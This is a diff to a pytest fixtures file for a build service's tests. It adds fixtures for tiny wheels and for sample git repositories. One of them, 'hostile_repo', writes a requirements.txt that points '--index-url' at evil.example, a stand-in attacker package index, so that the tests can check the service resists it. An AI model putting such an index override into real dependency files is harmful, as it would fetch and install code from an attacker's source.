@@ -1,11 +1,5 @@
-"""Fixtures of the build service's tests.
-
-- ``builder``: a real hub from the shipped config running the build service (recording
-  backend), shared by the package's service tests.
-- ``backend_case``: the backend contract suite's fixture, one `BackendCase` per backend kind.
-  Each kind's set-up lives in ``cases/<kind>.py`` (see `cases`); the suite itself is
-  ``test_backend_contract.py``. A new backend joins by adding its module and its kind here.
-"""
+"""Fixtures of the builder tests: tiny wheels, git repositories, the backend cases, and a real
+hub running the build service (`svc.builder_hub`)."""
 
 from __future__ import annotations
 
@@ -15,10 +9,40 @@ from pathlib import Path
 
 import pytest
 
-from .cases import BackendCase
+from .cases import BACKENDS, BackendCase
+from .gitrepos import Repo, make_repo
 from .svc import builder_hub
+from .wheels import tiny_index
 
-BACKEND_KINDS = ["openshift"]
+
+@pytest.fixture(scope="session")
+def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A find-links directory of tiny wheels (see `wheels.tiny_index`)."""
+    return tiny_index(tmp_path_factory.mktemp("wheels"))
+
+
+@pytest.fixture(scope="session")
+def notebook_repo(tmp_path_factory: pytest.TempPathFactory) -> Repo:
+    """A repository with a notebook and ``ovtiny==1.0`` in its requirements.txt."""
+    return make_repo(
+        tmp_path_factory.mktemp("git") / "demo",
+        "# what the demo needs\novtiny==1.0  # pinned\n\n",
+    )
+
+
+@pytest.fixture(scope="session")
+def hostile_repo(tmp_path_factory: pytest.TempPathFactory) -> Repo:
+    """A repository whose requirements.txt tries to pick the package index."""
+    return make_repo(
+        tmp_path_factory.mktemp("git") / "hostile",
+        "ovtiny==1.0\n--index-url https://evil.example/simple\n",
+    )
+
+
+@pytest.fixture(scope="session")
+def broken_repo(tmp_path_factory: pytest.TempPathFactory) -> Repo:
+    """A repository whose requirements install a package that breaks the environment."""
+    return make_repo(tmp_path_factory.mktemp("git") / "broken", "ovbreak==1.0\n")
 
 
 @pytest.fixture(scope="package")
@@ -28,10 +52,8 @@ def builder(tmp_path_factory):
         yield service
 
 
-@pytest.fixture(params=BACKEND_KINDS)
-async def backend_case(
-    request: pytest.FixtureRequest, tmp_path: Path
-) -> AsyncIterator[BackendCase]:
+@pytest.fixture(params=BACKENDS)
+async def backend_case(request: pytest.FixtureRequest) -> AsyncIterator[BackendCase]:
     module = importlib.import_module(f"{__package__}.cases.{request.param}")
-    async with module.case(tmp_path) as case:
+    async with module.case(request) as case:
         yield case
